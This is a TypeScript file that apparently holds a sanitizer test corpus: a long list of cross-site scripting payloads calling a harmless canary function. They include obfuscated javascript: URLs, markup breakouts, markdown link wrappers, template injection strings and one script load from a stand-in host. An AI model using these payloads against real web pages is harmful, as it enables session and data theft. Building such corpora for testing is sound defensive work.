// Texts that would run if a page ever took them for more than text: our own collection, made of what can stand in front,
// what runs, and how it may be hidden. `ran` is what a payload calls; nobody may hear of it.

const CALL = 'ran()'
const ENCODED = '&#114;&#97;&#110;&#40;&#41;'

/** Elements and their handlers. */
const MARKUP = [
  ...[
    'img',
    'image',
    'video',
    'audio',
    'source',
    'track',
    'embed',
    'object',
    'input type=image',
    'link rel=stylesheet',
  ].map((name) => `<${name} src=x: href=x: data=x: onerror=${CALL}>`),
  ...['svg', 'body', 'iframe', 'style', 'script', 'frameset', 'marquee onstart', 'details open ontoggle', 'math'].map(
    (name) => `<${name}${name.includes(' on') ? '' : ' onload'}=${CALL}>`,
  ),
  ...[
    'onfocus autofocus',
    'onanimationstart',
    'ontransitionend',
    'onpointerenter',
    'onmouseover',
    'onclick',
    'onwheel',
  ].map((handler) => `<b tabindex=0 ${handler.split(' ').join(`="${CALL}" `)} style="animation:breathe 1s">x</b>`),
  `<script>${CALL}</script>`,
  `<ScRiPt>${CALL}</sCrIpT>`,
  `<script src="data:text/javascript,${CALL}"></script>`,
  `<script src=//x.example/${CALL}></script>`,
  `<script type=module>${CALL}</script>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><script href="data:,${CALL}"/></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><set onbegin=${CALL} attributeName=x>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${CALL}>#x">`,
  `<svg><foreignObject><img src=x: onerror=${CALL}></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x: onerror=${CALL}>`,
  `<math href="javascript:${CALL}">x</math>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>">`,
  `<iframe src="javascript:parent.${CALL}">`,
  `<object data="javascript:${CALL}">`,
  `<embed src="javascript:${CALL}">`,
  `<form action="javascript:${CALL}"><button autofocus>x</button></form>`,
  `<button formaction="javascript:${CALL}">x</button>`,
  `<base href="javascript:${CALL}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<link rel=import href="data:text/html,<script>${CALL}</script>">`,
  `<template><script>${CALL}</script></template>`,
  `<noscript><p title="</noscript><img src=x: onerror=${CALL}>">`,
  `<style>@import 'javascript:${CALL}';</style>`,
  `<style>*{background:url("javascript:${CALL}")}</style>`,
  `<div style="background:url(javascript:${CALL})">x</div>`,
  `<div style="width:expression(${CALL})">x</div>`,
  `<xmp><img src=x: onerror=${CALL}></xmp>`,
  `<textarea autofocus onfocus=${CALL}>`,
  `<select autofocus onfocus=${CALL}>`,
  `<a href="javascript:${CALL}" autofocus>x</a>`,
  `<video><source onerror=${CALL}></video>`,
  `<dialog open onclose=${CALL}><form method=dialog>`,
  `<custom-element onconnected=${CALL}>`,
]

/** Ways out of where a text may stand. */
const BREAKS = [
  '">',
  "'>",
  '`>',
  '-->',
  ']]>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</p></article>',
  '\\">',
  '&quot;>',
].map((end) => `${end}<img src=x: onerror=${CALL}>`)

/** Attributes that begin inside of another. */
const ATTRIBUTES = ['"', "'", '`', ' '].flatMap((quote) =>
  ['onmouseover', 'onfocus', 'style', 'href', 'srcdoc'].map(
    (name) => `x${quote} ${name}=${quote}javascript:${CALL}${quote} y=${quote}`,
  ),
)

/** Addresses that are none. */
const ADDRESSES = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java\tscript:${CALL}`,
  `java\nscript:${CALL}`,
  `java\rscript:${CALL}`,
  ` javascript:${CALL}`,
  `\u0001javascript:${CALL}`,
  `\u00a0javascript:${CALL}`,
  `\u200bjavascript:${CALL}`,
  `\ufeffjavascript:${CALL}`,
  `javascript\u003a${CALL}`,
  `javascript&colon;${CALL}`,
  `javascript&#58;${CALL}`,
  `javascript&#x3a;${CALL}`,
  `javascript:${ENCODED}`,
  `javascript://example.com/%0a${CALL}`,
  `javascript://example.com/?\u2028${CALL}`,
  `javascript:void(${CALL})//https://example.com`,
  `vbscript:${CALL}`,
  `livescript:${CALL}`,
  `data:text/html,<script>parent.${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${CALL}>`,
  `data:application/javascript,${CALL}`,
  `blob:https://example.com/${CALL}`,
  `filesystem:https://example.com/${CALL}`,
  `view-source:javascript:${CALL}`,
  `feed:javascript:${CALL}`,
  `jar:javascript:${CALL}!/`,
  `https://example.com/"onmouseover="${CALL}`,
  `https://example.com/'onclick='${CALL}`,
  `https://example.com/><img src=x: onerror=${CALL}>`,
  `//javascript:${CALL}`,
]

/** Each address as the dialect writes links, pictures and what is made into a link by itself. */
const LINKS = ADDRESSES.flatMap((address) => [
  address,
  `[click](${address})`,
  `![picture](${address})`,
  `<${address}|click>`,
])

/** The dialect around markup. */
const DIALECT = [
  '*',
  '_',
  '~',
  '`',
  '```\n',
  '||',
  '> ',
  '# ',
  '- ',
  '1. ',
  '- [ ] ',
  '$$',
  '\\(',
  '@',
  '#',
  ':',
  '[',
  '![',
  '| a |\n|-|\n| ',
].map((sign) => `${sign}<img src=x: onerror=${CALL}>${sign}`)

/** What templates, parsers and prototypes may trip over. */
const OTHERS = [
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
  `<%= ${CALL} %>`,
  `#{${CALL}}`,
  `[[${CALL}]]`,
  '__proto__',
  'constructor',
  'toString',
  ':__proto__:',
  ':constructor:',
  `\u202E>)(nar=rorreno :x=crs gmi<`,
  `\u2066<script>${CALL}</script>\u2069`,
  `<\u0000script>${CALL}</script>`,
  `<img src=x:\u000conerror=${CALL}>`,
  `<img/src=x:/onerror=${CALL}>`,
  `<img src=x: onerror\u0000=${CALL}>`,
  `\u{FF1C}script\u{FF1E}${CALL}\u{FF1C}/script\u{FF1E}`,
  `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `<!--<img src="--><img src=x: onerror=${CALL}>">`,
  `<![CDATA[<script>${CALL}</script>]]>`,
  `<?xml-stylesheet href="javascript:${CALL}"?>`,
  `<img src=x: onerror=${CALL}//`,
  `<<script>${CALL}//<</script>`,
  `<img src=\`x:\`onerror=${CALL}>`,
]

export const PAYLOADS: readonly string[] = [
  ...new Set([...MARKUP, ...BREAKS, ...ATTRIBUTES, ...LINKS, ...DIALECT, ...OTHERS]),
]
